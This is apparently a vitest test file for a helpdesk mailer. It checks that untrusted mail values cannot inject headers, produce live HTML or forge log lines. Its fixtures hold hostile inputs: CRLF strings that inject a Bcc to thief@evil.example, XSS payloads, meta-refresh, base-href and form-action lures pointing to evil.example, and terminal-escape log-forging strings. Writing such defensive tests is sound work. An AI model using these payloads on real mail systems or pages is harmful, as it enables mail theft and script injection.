/** What came in by mail goes out again: into mails of ours, and into the log. It may not become anything but text there. */
import { Writable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { parseMessage } from '../../src/message/parse.ts';
import { Events } from '../../src/observe/events.ts';
import { createLogger, logEvents } from '../../src/observe/logger.ts';
import { fillHtml, fillSubject } from '../../src/outbound/template.ts';
import { composeMail } from '../../src/send/compose.ts';
import type { OutgoingMail } from '../../src/send/mail.ts';

/** As it stands in a subject that was decoded from an encoded-word. */
const HOSTILE = [
  'x\r\nBcc: thief@evil.example',
  'x\nBcc: thief@evil.example',
  'x\rBcc: thief@evil.example',
  'x\r\n\r\nBcc: thief@evil.example\r\n\r\nanother body',
  'x\u2028Bcc: thief@evil.example',
  'x\u0000\r\n Bcc: thief@evil.example',
];

describe('a mail of ours', () => {
  it.each(HOSTILE)('T28.1 %j becomes no header, wherever it stands', async (text) => {
    const person = { name: text, address: 'ann@customer.example' };
    const mail: OutgoingMail = {
      messageId: 'r1@desk.example',
      date: new Date('2026-03-01T12:00:00Z'),
      from: { name: text, address: 'desk@desk.example' },
      recipients: { to: [person], cc: [person], bcc: [], replyTo: person },
      subject: fillSubject('{{ticket.subject}} for {{user.name}}', {
        'ticket.subject': text,
        'user.name': text,
      }),
      text: 'Hello.',
      html: null,
      inReplyTo: `${text}@evil.example`,
      attachments: [
        { filename: text, contentType: `text/plain\r\n${text}`, contentId: text, bytes: Buffer.from('a') },
      ],
      automatic: 'auto-replied',
      instanceId: 'penstock-test',
      delivered: [],
    };
    const bytes = await composeMail(mail);
    const lines = bytes.toString('latin1').split('\r\n');
    expect(lines.filter((line) => /^\s?bcc\s*:/i.test(line))).toEqual([]);
    expect(bytes.toString('latin1').replaceAll('\r\n', '')).not.toMatch(/[\r\n\0]/);
    const names = (await parseMessage(bytes)).headers.map(({ name }) => name.toLowerCase());
    expect([...new Set(names)].sort()).toEqual([...names].sort());
    expect(names.sort()).toEqual([
      'auto-submitted',
      'cc',
      'content-type',
      'date',
      'from',
      'in-reply-to',
      'message-id',
      'mime-version',
      'precedence',
      'references',
      'reply-to',
      'subject',
      'to',
      'x-auto-response-suppress',
      'x-loop',
      'x-penstock-mail',
    ]);
  });

  it.each([
    '<svg/onload=alert(1)>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<base href="//evil.example/">',
    '<style>@import "//evil.example/a.css";</style>',
    '<div style="position:fixed;inset:0">over everything</div>',
    '<form action="//evil.example"><input name=password></form>',
    '<a href="data:text/html,<script>alert(1)</script>">here</a>',
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '{{signature}}',
  ])('T22.1 %s in a value is text in its HTML', (text) => {
    const values = { 'user.name': text, subject: text, signature: '<b>Desk</b>' };
    const html = fillHtml('<p title="{{subject}}" lang=\'{{subject}}\'>{{user.name}}</p>', values);
    const bare = html.replace(/^<p title="([^"]*)" lang='([^']*)'>([^<>"']*)<\/p>$/, '$1\n$2\n$3');
    const back = bare
      .replaceAll('&lt;', '<')
      .replaceAll('&gt;', '>')
      .replaceAll('&quot;', '"')
      .replaceAll('&#39;', "'")
      .replaceAll('&amp;', '&');
    expect(back.split('\n')).toEqual([text, text, text]);
  });
});

describe('a log line', () => {
  it.each(['json', 'pretty'] as const)(
    'T28.2 has no escape, no second line and no other event, as %s',
    async (format) => {
      const written: string[] = [];
      const destination = new Writable({
        write(chunk, _encoding, done) {
          written.push(String(chunk));
          done();
        },
      });
      const events = new Events();
      logEvents(events, await createLogger({ level: 'debug', format }, destination));
      const message = 'No answer for "\u001b[2J\u001b]0;x\u0007Ann\r\n{"level":"fatal"}" <a@b>\u009b31m';
      events.emit('outgoing.failed', {
        mailbox: 1,
        id: 2,
        code: 'send_refused',
        message,
        event: 'forged',
      } as never);
      const text = written.join('');
      expect(text.trimEnd().split('\n')).toHaveLength(1);
      expect(text).toContain('Ann');
      // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for.
      expect(text.trimEnd()).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
      if (format === 'json') expect(JSON.parse(text)).toMatchObject({ event: 'outgoing.failed', message });
    },
  );
});
